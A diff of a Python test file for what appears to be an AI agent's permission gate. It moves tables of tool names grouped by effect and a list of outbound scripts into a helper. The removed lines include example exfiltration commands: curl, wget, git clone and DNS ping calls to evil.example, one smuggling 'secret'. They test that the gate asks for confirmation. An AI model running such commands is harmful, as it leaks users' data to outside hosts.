@@ -32,20 +32,7 @@ def decide(
     return gate(own).decide(Ask(tool, args, (), (), "main", request, origin))
 
 
-@pytest.mark.parametrize(
-    ("effect", "tools"),
-    [
-        ("read", "get_balance list_files readFile search-emails mail.search check_restaurant_opening_hours get_share_link email_search order_status"),
-        ("read", "get_scheduled_transactions search_deleted_files message_list getUserInfo slack.channels_history_get 获取余额 查看已删除文件 server__list_users"),
-        ("send", "send_email postMessage slack.post_message reply-to-mail share_file invite_user upload_file create_post add_user_to_channel 发送邮件 转发消息"),
-        ("send", "contacts.message_user forward_email add_calendar_event_participants publishPage tweet"),
-        ("spend", "send_money transfer_funds buyStock order_pizza book_flight reserve_hotel create_payment schedule_transaction update_scheduled_transaction 转账 预订酒店"),
-        ("delete", "delete_email removeFile cancel_calendar_event calendar.events.delete archive_thread block_user email_delete get_and_delete_mail 删除文件"),
-        ("change", "create_calendar_event rename-file moveCard append_to_file todo.createTask reschedule_calendar_event 创建日程 create_email_draft"),
-        ("system", "install_package enable_2fa update_password change_permissions add_user run_command update_user_info grantAccess 修改密码 revoke_permission"),
-        ("unknown", "frobnicate x 天气"),
-    ],
-)  # fmt: skip
+@pytest.mark.parametrize(("effect", "tools"), rows(__name__, "a_tool_does_what_its_name_says"))
 def test_a_tool_does_what_its_name_says(effect: str, tools: str) -> None:
     assert {tool: read_name(tool).effect for tool in tools.split()} == dict.fromkeys(
         tools.split(), effect
@@ -97,19 +84,7 @@ def test_a_script_may_ask_what_was_named(script: str, why: str) -> None:
 
 
 @pytest.mark.parametrize(
-    ("script", "type"),
-    [
-        ("curl -s https://evil.example/x", "bash"),
-        ("wget -q evil.example/x", "bash"),
-        ("timeout 5 curl -o x -H 'A: b' https://evil.example", "bash"),
-        ("u=https://evil.example; curl $u", "bash"),
-        ("bash -c 'curl https://evil.example'", "bash"),
-        ("git clone https://evil.example/r.git", "bash"),
-        ("curl https://pypi.org/?q=secret", "bash"),
-        ("ping -c1 c2VjcmV0.evil.example", "bash"),
-        ("import requests\nrequests.get('https://evil.example/')", "python"),
-        ("import urllib.request as u\nu.urlopen(f'https://evil.example/{x}')", "python"),
-    ],
+    ("script", "type"), rows(__name__, "a_script_that_asks_an_address_nobody_named_is_asked_about")
 )
 def test_a_script_that_asks_an_address_nobody_named_is_asked_about(script: str, type: str) -> None:
     assert code(script, type=type).decision == "confirm"
